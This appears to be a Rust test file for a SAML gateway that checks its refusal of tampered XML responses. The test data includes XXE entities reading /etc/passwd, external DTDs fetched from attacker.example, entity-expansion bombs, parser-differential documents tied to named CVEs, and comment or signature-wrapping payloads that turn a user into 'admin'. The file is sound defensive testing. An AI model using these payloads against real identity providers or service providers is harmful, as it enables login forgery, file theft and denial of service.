//! Documents that readers of XML differ about, and documents that are too much.

use super::*;
use std::time::Instant;

const DTD: SamlRefused =
    SamlRefused::Xml("it has a DTD, a CDATA section or a processing instruction");
const COMMENT: SamlRefused = SamlRefused::Xml("it has a comment");
const ENTITY_REFERENCE: SamlRefused = SamlRefused::Xml("it refers to an entity");

/// Puts a DTD where one may stand.
fn with_dtd(xml: &str, dtd: &str) -> String {
    xml.replacen("<ns0:Response", &format!("{dtd}<ns0:Response"), 1)
}

#[test]
fn a_name_is_not_cut_at_a_comment() {
    let w = world();
    // The provider has both people: it signs what it is given, and canonical forms have no comments.
    for name in [
        "admin<!---->@corp.example",
        "admin<!-- x -->.evil",
        "<!---->admin",
        "ana<!-- -->",
    ] {
        let xml = w.made(json!({"edits": [[">ana-7f3c<", format!(">{name}<")]]}));
        w.refuses(&xml, COMMENT);
    }
    let good = w.good();
    // In a comment the forger may write without the provider; the signature stays good.
    for (old, new) in [
        (">ana-7f3c<", ">ana<!---->-7f3c<"),
        (">dba<", "><!-- x -->dba<"),
        ("<ns1:Subject>", "<ns1:Subject><!-- x -->"),
        ("<ns2:SignedInfo>", "<ns2:SignedInfo><!-- x -->"),
        ("<ns2:DigestValue>", "<ns2:DigestValue><!--AAAA-->"),
        ("<ns2:SignatureValue>", "<ns2:SignatureValue><!--AAAA-->"),
        ("</ns0:Response>", "</ns0:Response><!-- x -->"),
        ("<ns0:Response", "<!-- x --><ns0:Response"),
        ("<ns0:Status>", "<ns0:Status><!-- x -->"),
    ] {
        w.refuses(&good.replacen(old, new, 1), COMMENT);
    }
    for (old, new) in [
        (">ana-7f3c<", "><![CDATA[admin]]><"),
        (">ana-7f3c<", ">ana<?x y?>-7f3c<"),
        (">ana-7f3c<", ">ana<![CDATA[-7f3c]]><"),
        ("<ns2:SignatureValue>", "<ns2:SignatureValue><?x?>"),
        ("</ns0:Response>", "</ns0:Response><?x?>"),
    ] {
        w.refuses(&good.replacen(old, new, 1), DTD);
    }
    w.accepts(&good);
}

#[test]
fn there_is_no_dtd_and_no_entity() {
    let w = world();
    let good = w.good();
    for dtd in [
        "<!DOCTYPE r>",
        "<!DOCTYPE r [<!ENTITY e \"admin\">]>",
        "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE r SYSTEM \"https://attacker.example/x.dtd\">",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"https://attacker.example/x\"> %p;]>",
        "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>",
        "<!DOCTYPE r [<!ATTLIST ns1:Assertion ID ID #IMPLIED x CDATA \"y\">]>",
        "<!DOCTYPE ns0:Response [<!NOTATION n PUBLIC \"x\">]>",
        "<!doctype r>",
    ] {
        w.refuses(&with_dtd(&good, dtd), DTD);
        w.refuses(&format!("{dtd}{good}"), DTD);
    }
    for reference in ["&e;", "&nbsp;", "&lt2;", "&#x26;e;"] {
        let xml = good.replace(">ana-7f3c<", &format!(">{reference}<"));
        let why = w.refuses_all(reference, &xml);
        assert!(
            matches!(why, ENTITY_REFERENCE | SamlRefused::Signature),
            "{reference}: {why}"
        );
    }
    w.accepts(&good);
}

/// CVE-2025-25291, 25292 and 66567: two parsers saw two documents in one. Here is one parser, and it refuses what they
/// saw differently.
#[test]
fn what_parsers_differ_about_is_refused() {
    let w = world();
    let good = w.good();
    let after_declaration = good.split_once("?>").unwrap().1.trim_start().to_owned();
    let evil = after_declaration.replace(">ana-7f3c<", ">admin<");
    for (what, xml) in [
        (
            "a document type that holds a document",
            with_dtd(
                &good,
                &format!("<!DOCTYPE r [<!ENTITY x '<!--'>]>{evil}<!---->"),
            ),
        ),
        (
            "a declaration in a quoted literal",
            with_dtd(&good, "<!DOCTYPE r [<!ENTITY x '\">]><!--'>]>"),
        ),
        ("two documents", format!("{after_declaration}{evil}")),
        (
            "two documents, evil first",
            format!("{evil}{after_declaration}"),
        ),
        ("a zero byte", format!("{good}\0{evil}")),
        (
            "a zero byte in a name",
            good.replace(">ana-7f3c<", ">admin\0<"),
        ),
        (
            "an end tag of another name",
            good.replace("</ns1:NameID>", "</ns1:nameID>"),
        ),
        (
            "an end tag with attributes",
            good.replace("</ns1:NameID>", "</ns1:NameID x=\"y\">"),
        ),
        (
            "no white space between attributes",
            good.replace("\" Version=", "\"Version="),
        ),
        (
            "an attribute without a value",
            good.replace("<ns1:Subject>", "<ns1:Subject x>"),
        ),
        (
            "an attribute without quotes",
            good.replace("Version=\"2.0\"", "Version=2.0"),
        ),
        (
            "a less-than in an attribute",
            good.replace("SessionIndex=\"", "SessionIndex=\"<"),
        ),
        ("text outside", format!("{good}x")),
        ("text before", format!("x{after_declaration}")),
        ("white space before the declaration", format!(" {good}")),
        ("two declarations", format!("<?xml version=\"1.0\"?>{good}")),
        (
            "another version",
            good.replace("version=\"1.0\"", "version=\"1.1\""),
        ),
        (
            "another encoding",
            format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{after_declaration}"),
        ),
        ("a byte order mark", format!("\u{feff}{good}")),
        (
            "the end of a CDATA section in text",
            good.replace(">ana-7f3c<", ">ana]]>-7f3c<"),
        ),
        ("an unclosed tag", good.replace("</ns0:Response>", "")),
        ("a start tag at the end", format!("{good}<")),
        (
            "a colon at the start of a name",
            good.replace("ns1:NameID", ":NameID"),
        ),
        (
            "a name with two colons",
            good.replace("ns1:NameID", "ns1:x:NameID"),
        ),
        (
            "a name that is not of ASCII",
            good.replace("ns1:NameID", "ns1:NameİD"),
        ),
        (
            "a surrogate by reference",
            good.replace(">ana-7f3c<", ">&#xD800;<"),
        ),
        ("no character", good.replace(">ana-7f3c<", ">\u{ffff}<")),
        ("nothing", String::new()),
        ("only a declaration", "<?xml version=\"1.0\"?>".to_owned()),
        ("JSON", "{\"Response\": 1}".to_owned()),
    ] {
        let why = w
            .gateway
            .finish(&STANDARD.encode(&xml), Some(REQUEST), issued(&good));
        assert!(matches!(why, Err(SamlRefused::Xml(_))), "{what}: {why:?}");
    }
    for bytes in [
        good.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>(),
        [b"\xff\xfe".as_slice(), good.as_bytes()].concat(),
        good.replace("ana-7f3c", "an\u{e9}")
            .chars()
            .map(|c| u8::try_from(c).unwrap())
            .collect(),
        good.replace("ana-7f3c", "X")
            .into_bytes()
            .into_iter()
            .flat_map(|b| if b == b'X' { vec![0xc0, 0xbc] } else { vec![b] })
            .collect(),
    ] {
        let why = w
            .gateway
            .finish(&STANDARD.encode(bytes), Some(REQUEST), issued(&good));
        assert!(matches!(why, Err(SamlRefused::Xml(_))), "{why:?}");
    }
    w.accepts(&good);
}

#[test]
fn names_are_what_their_namespaces_say() {
    let w = world();
    let good = w.good();
    let saml = "urn:oasis:names:tc:SAML:2.0:assertion";
    let samlp = "urn:oasis:names:tc:SAML:2.0:protocol";
    let ds = "http://www.w3.org/2000/09/xmldsig#";
    for (namespace, other) in [
        (saml, "urn:oasis:names:tc:SAML:1.0:assertion"),
        (samlp, "urn:x"),
        (ds, "urn:x"),
        (saml, samlp),
    ] {
        let xml = good.replace(&format!("=\"{namespace}\""), &format!("=\"{other}\""));
        let why = w.refuses_all(other, &xml);
        assert!(!matches!(why, SamlRefused::Signature), "{why}");
    }
    // A prefix that comes to mean something else within the signed part.
    for at in [
        "<ns1:Subject>",
        "<ns1:NameID ",
        "<ns1:AttributeStatement>",
        "<ns1:Assertion ",
    ] {
        let changed = at.replace(['>', ' '], "");
        let rest = at.strip_prefix(&changed).unwrap();
        let xml = good.replacen(at, &format!("{changed} xmlns:ns1=\"urn:x\"{rest}"), 1);
        w.refuses_all(at, &xml);
        // The same meaning, said again, is no change.
        let same = good.replacen(at, &format!("{changed} xmlns:ns1=\"{saml}\"{rest}"), 1);
        let gateway = w.other(|_| {});
        finish_at(&gateway, &same, issued(&good)).unwrap();
    }
    // An attribute with a namespace is another attribute.
    for (old, new) in [
        (" ID=\"", " ns0:ID=\""),
        ("Recipient=", "ns1:Recipient="),
        ("InResponseTo=", "xsi:InResponseTo="),
        ("Algorithm=", "ns2:Algorithm="),
    ] {
        w.refuses_all(new, &good.replace(old, new));
    }
    for bad in [
        "xmlns:xml=\"urn:x\"",
        "xmlns:xmlns=\"urn:x\"",
        "xmlns:p=\"\"",
        "xmlns:p=\"http://www.w3.org/2000/xmlns/\"",
        "xmlns=\"http://www.w3.org/XML/1998/namespace\"",
        "xmlns:p=\"urn:a\" xmlns:p=\"urn:a\"",
        "p:x=\"y\"",
        "xmlns:p=\"urn:a\" xmlns:q=\"urn:a\" p:x=\"1\" q:x=\"2\"",
        "ID=\"x\" ID=\"x\"",
        "xmlns:ns1=\"x y\"",
    ] {
        let xml = good.replacen("<ns0:Response ", &format!("<ns0:Response {bad} "), 1);
        let why = w.refuses_all(bad, &xml);
        assert!(matches!(why, SamlRefused::Xml(_)), "{bad}: {why}");
    }
    w.accepts(&good);
}

#[test]
fn what_is_read_stands_there_once() {
    let w = world();
    let name = "<ns1:NameID SPNameQualifier=\"https://gateway.example/saml\" \
        Format=\"urn:oasis:names:tc:SAML:2.0:nameid-format:persistent\">ana-7f3c</ns1:NameID>";
    let admin = name.replace("ana-7f3c", "admin");
    let order = SamlRefused::Shape("order or number of elements");
    let not_a_list = SamlRefused::Groups("are not a list of texts, given once");
    let wrong_name = SamlRefused::Subject("is not a plain name");
    let statement = "<ns1:AttributeStatement>";
    let groups = "<ns1:Attribute Name=\"groups\"><ns1:AttributeValue>sre</ns1:AttributeValue></ns1:Attribute>";
    // All of these the provider signed.
    for (old, new, why) in [
        (
            name,
            format!("{name}{admin}"),
            SamlRefused::Shape("SubjectConfirmation"),
        ),
        (
            name,
            format!("{admin}{name}"),
            SamlRefused::Shape("SubjectConfirmation"),
        ),
        (
            name,
            format!("<ns1:EncryptedID/>{name}"),
            SamlRefused::Shape("SubjectConfirmation"),
        ),
        (
            name,
            format!("<ns1:BaseID/>{name}"),
            SamlRefused::Shape("SubjectConfirmation"),
        ),
        (
            ">ana-7f3c<",
            ">ana<ns1:x/>-7f3c<".to_owned(),
            SamlRefused::Shape("elements within a value"),
        ),
        (">ana-7f3c<", "><".to_owned(), wrong_name),
        (">ana-7f3c<", "> ana-7f3c<".to_owned(), wrong_name),
        (">ana-7f3c<", ">*<".to_owned(), wrong_name),
        (">ana-7f3c<", ">ana&#10;admin<".to_owned(), wrong_name),
        (">ana-7f3c<", ">adm\u{200b}in<".to_owned(), wrong_name),
        (name, String::new(), SamlRefused::Subject("has no NameID")),
        (
            "SPNameQualifier=\"https://gateway.example/saml\"",
            "SPNameQualifier=\"https://other.example\"".to_owned(),
            SamlRefused::Subject("is named in another's namespace"),
        ),
        (
            " SPNameQualifier=",
            " NameQualifier=\"https://other.example\" SPNameQualifier=".to_owned(),
            SamlRefused::Subject("is named in another's namespace"),
        ),
        (
            "</ns1:SubjectConfirmation>",
            "</ns1:SubjectConfirmation><ns1:SubjectConfirmation \
            Method=\"urn:oasis:names:tc:SAML:2.0:cm:bearer\"/>"
                .to_owned(),
            order,
        ),
        (statement, format!("{statement}{groups}"), not_a_list),
        (
            statement,
            format!("<ns1:AttributeStatement>{groups}</ns1:AttributeStatement>{statement}"),
            not_a_list,
        ),
        (
            ">dba<",
            "><ns1:NameID>dba</ns1:NameID><".to_owned(),
            not_a_list,
        ),
        (
            ">dba<",
            "> dba<".to_owned(),
            SamlRefused::Groups("have one that is not a plain name"),
        ),
        (
            ">dba<",
            "><".to_owned(),
            SamlRefused::Groups("have one that is not a plain name"),
        ),
        (
            "<ns1:AttributeValue ",
            "<ns1:AttributeValue xsi:nil=\"true\" ".to_owned(),
            not_a_list,
        ),
        (
            "<ns1:AuthnStatement ",
            "<ns1:AuthnStatement AuthnInstant=\"2026-01-01T00:00:00Z\"/><ns1:AuthnStatement "
                .to_owned(),
            SamlRefused::Shape("a statement that is not expected"),
        ),
        (
            "<ns1:AuthnStatement ",
            "<ns1:AuthzDecisionStatement/><ns1:AuthnStatement ".to_owned(),
            SamlRefused::Shape("a statement that is not expected"),
        ),
        (
            statement,
            format!("{statement}<ns1:EncryptedAttribute/>"),
            order,
        ),
        (
            "<ns1:Conditions ",
            "<ns1:Conditions NotOnOrAfter=\"2999-01-01T00:00:00Z\"/><ns1:Conditions ".to_owned(),
            SamlRefused::Audience,
        ),
        (
            "<ns1:Subject>",
            "<ns1:Subject/><ns1:Subject>".to_owned(),
            SamlRefused::Shape("SubjectConfirmation"),
        ),
        (
            "<ns1:Subject>",
            "x<ns1:Subject>".to_owned(),
            SamlRefused::Shape("text between elements"),
        ),
    ] {
        w.refuses(&w.made(json!({"edits": [[old, new]]})), why);
    }
    w.accepts(&w.good());
}

#[test]
fn a_subject_attribute_has_one_value() {
    let w = world_with(|config, _| {
        config.subject = brattice_identity::saml::SubjectFrom::Attribute("uid".to_owned());
        config.groups = None;
    });
    let wrong = SamlRefused::Subject("is not the one value of the attribute that is set");
    let of = |values: &str| {
        let edit = format!("<ns1:AttributeStatement>{values}");
        w.made(json!({"edits": [["<ns1:AttributeStatement>", edit]]}))
    };
    let one =
        "<ns1:Attribute Name=\"uid\"><ns1:AttributeValue>ana</ns1:AttributeValue></ns1:Attribute>";
    assert_eq!(w.accepts(&of(one)).identity.chain.acting.name, "ana");
    for values in [
        String::new(),
        format!("{one}{one}"),
        "<ns1:Attribute Name=\"uid\"/>".to_owned(),
        one.replace(
            "</ns1:AttributeValue>",
            "</ns1:AttributeValue><ns1:AttributeValue>admin</ns1:AttributeValue>",
        ),
        one.replace("uid", "UID"),
        one.replace("Name=", "FriendlyName="),
    ] {
        w.refuses(&of(&values), wrong);
    }
}

#[test]
fn documents_that_are_too_much_are_refused_soon() {
    let w = world();
    let good = w.good();
    let padded = |with: &str, times: usize| {
        good.replacen(
            "<ns1:AttributeStatement>",
            &format!("<ns1:AttributeStatement>{}", with.repeat(times)),
            1,
        )
    };
    let value = |inside: &str| {
        format!(
            "<ns1:Attribute Name=\"x\"><ns1:AttributeValue>{inside}</ns1:AttributeValue></ns1:Attribute>"
        )
    };
    let nested = |depth: usize| value(&format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth)));
    let attributes: String = (0..40).map(|n| format!(" a{n}=\"\"")).collect();
    let namespaces: String = (0..40).map(|n| format!(" xmlns:a{n}=\"urn:x\"")).collect();
    for (what, xml, why) in [
        ("10 MB", padded("x", 10 << 20), SamlRefused::TooLong),
        ("400 KB", padded("<ns1:x/>", 50_000), SamlRefused::TooLong),
        (
            "elements",
            padded("<a/>", 6_000),
            SamlRefused::Xml("it has too many elements"),
        ),
        (
            "depth",
            padded(&nested(30), 1),
            SamlRefused::Xml("it is nested too deeply"),
        ),
        (
            "great depth",
            padded(&nested(20_000), 1),
            SamlRefused::Xml("it is nested too deeply"),
        ),
        (
            "depth without an end",
            "<a>".repeat(100_000),
            SamlRefused::Xml("it is nested too deeply"),
        ),
        (
            "attributes",
            padded(&format!("<a{attributes}/>"), 1),
            SamlRefused::Xml("an element has too many attributes"),
        ),
        (
            "namespaces",
            padded(&format!("<a{namespaces}/>"), 1),
            SamlRefused::Xml("an element has too many attributes"),
        ),
        (
            "a long name",
            padded(&format!("<{}/>", "a".repeat(1_000)), 1),
            SamlRefused::Xml("a name is not a plain one"),
        ),
    ] {
        let began = Instant::now();
        let found = w
            .gateway
            .finish(&STANDARD.encode(&xml), Some(REQUEST), issued(&good));
        assert_eq!(found.map(|p| p.assertion_id), Err(why), "{what}");
        assert!(
            began.elapsed().as_secs() < 2,
            "{what}: {:?}",
            began.elapsed()
        );
    }
    // As much as is allowed is refused for what it is, and soon too.
    let began = Instant::now();
    w.refuses(&padded(&nested(15), 150), SamlRefused::Signature);
    assert!(began.elapsed().as_secs() < 2);
    w.accepts(&good);
}

/// Responses are not compressed in this binding: nothing here inflates anything, be it a bomb or not.
#[test]
fn a_compressed_response_is_refused() {
    let w = world();
    let good = w.good();
    let bytes = good.as_bytes();
    let length = u16::try_from(bytes.len()).unwrap();
    let mut stored = vec![1];
    stored.extend(length.to_le_bytes());
    stored.extend((!length).to_le_bytes());
    stored.extend(bytes);
    let gzip = [[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3].as_slice(), &stored].concat();
    for compressed in [stored, gzip] {
        let found = w
            .gateway
            .finish(&STANDARD.encode(compressed), Some(REQUEST), issued(&good));
        assert!(matches!(found, Err(SamlRefused::Xml(_))), "{found:?}");
    }
    for text in [
        "",
        "%",
        "====",
        &good,
        &format!("{}=", STANDARD.encode(&good)),
        &format!("{} ", STANDARD.encode(&good)),
    ] {
        let found = w.gateway.finish(text, Some(REQUEST), issued(&good));
        assert!(
            matches!(found, Err(SamlRefused::NotBase64 | SamlRefused::Xml(_))),
            "{found:?}"
        );
    }
    w.accepts(&good);
}
